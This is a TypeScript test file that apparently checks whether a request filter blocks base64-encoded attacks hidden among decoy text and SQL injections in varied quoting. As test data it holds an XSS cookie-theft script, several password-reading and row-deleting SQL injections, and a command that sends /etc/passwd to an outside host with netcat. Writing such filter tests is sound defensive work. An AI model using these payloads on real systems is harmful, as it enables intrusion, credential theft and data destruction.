/** What stands around an attack, or in one run of digits with it, hides it from nobody. */
import { gzipSync } from 'node:zlib';
import { sites } from './test-support/send.ts';
import { isBlocked } from './tools/holdout/run.ts';
import { PLACES } from './tools/holdout/sets/01-injections/places.ts';

const blocks = (place: keyof typeof PLACES, text: string): boolean => {
  const sent = PLACES[place](text);
  return sent !== null && isBlocked(sites.medium, sent);
};
const base64 = (text: string | Buffer): string =>
  Buffer.from(text as string)
    .toString('base64')
    .replaceAll('=', '');

describe('an attack in base64 is stopped', () => {
  const ATTACKS = [
    '<script>alert(document.cookie)</script>',
    "7' UNION SELECT login, pw FROM staff -- ",
    '; cat /etc/passwd | nc 203.0.113.9 443',
  ];
  const SENTENCE = 'Nothing else than a plain sentence of sixty seven letters stands here';
  const DECOYS: Readonly<Record<string, string>> = {
    'a text': base64(SENTENCE),
    'a longer text': base64(SENTENCE.repeat(3)),
    'a text that ends with a group': base64(SENTENCE.slice(0, 66)),
    'one letter': 'z'.repeat(60),
    'hexadecimal digits': Buffer.from(SENTENCE).toString('hex'),
    'something packed': base64(gzipSync(SENTENCE)),
  };
  const SIGNS = ['/', '_', '-'];

  describe.each(ATTACKS)('%s', (attack) => {
    it.each(Object.entries(DECOYS))('beside %s', (_name, decoy) => {
      const coded = base64(attack);
      for (const place of ['query', 'form', 'JSON', 'cookie'] as const) {
        expect(blocks(place, coded)).toBe(true);
        for (const sign of SIGNS)
          for (const value of [
            decoy + sign + coded,
            coded + sign + decoy,
            decoy + sign + coded + sign + decoy,
            `${decoy}${sign}${decoy}${sign}${decoy}${sign}${decoy}${sign}${coded}${sign}${decoy.repeat(12)}`,
          ])
            expect([place, value, blocks(place, value)]).toEqual([place, value, true]);
      }
    });

    it('with any number of blanks behind it', () => {
      for (const blanks of [0, 100, 700, 740, 3000])
        for (const decoy of ['a text', 'one letter'])
          expect(blocks('form', `${DECOYS[decoy]}/${base64(attack + ' '.repeat(blanks))}`)).toBe(true);
    });
  });
});

describe('a statement of SQL is stopped', () => {
  /** What any exception for texts is made by. */
  const EXCEPTIONS = [
    '(?:',
    '(?=',
    '(?!',
    '(?<',
    'x{a="b"}',
    'sum(x{a="b"})',
    `Unexpected token '<'`,
    `Unexpected token ',', "x"`,
    'a b c',
    'a note; b',
    '```sql',
  ];
  const QUOTES: readonly ((text: string) => string)[] = [
    (text) => `'${text.replaceAll("'", "''")}'`,
    (text) => `"${text.replaceAll('"', '""')}"`,
    (text) => `\`${text.replaceAll('`', '``')}\``,
    (text) => `[${text.replaceAll(']', ']]')}]`,
    (text) => `$$${text}$$`,
    (text) => `$t$${text}$t$`,
    (text) => `q'[${text}]'`,
    (text) => `N'${text.replaceAll("'", "''")}'`,
  ];
  /** `@`: where a text or a name in quotes may stand. */
  const STATEMENTS = [
    '1 union select @,password from users',
    '1 union all select null,password @ from users -- ',
    "x' union select @,password from users -- ",
    'x" union select @,password from users -- ',
    "x' or @=@ -- ",
    'x" or @=@ -- ',
    '1 and 1=(select count(*) @ from information_schema.tables) -- ',
    "x'; delete from users where name=@ -- ",
  ];

  it.each(STATEMENTS)('%s, whatever stands between quotes in it', (statement) => {
    for (const exception of EXCEPTIONS)
      for (const quote of QUOTES) {
        const value = statement.replaceAll('@', () => quote(exception));
        expect([value, blocks('form', value)]).toEqual([value, true]);
      }
  });

  it.each([
    (text: string) => `Unexpected token ',', " ${text} or "`,
    (text: string) => `Please do not write ',', " ${text} or "`,
    (text: string) => `a b c '<', " ${text} or "`,
  ])('between double quotes behind a sentence: %s', (around) => {
    for (const text of ['or true', 'union select password from users where true', 'or 1=1'])
      expect([text, blocks('form', around(text))]).toEqual([text, true]);
  });
});
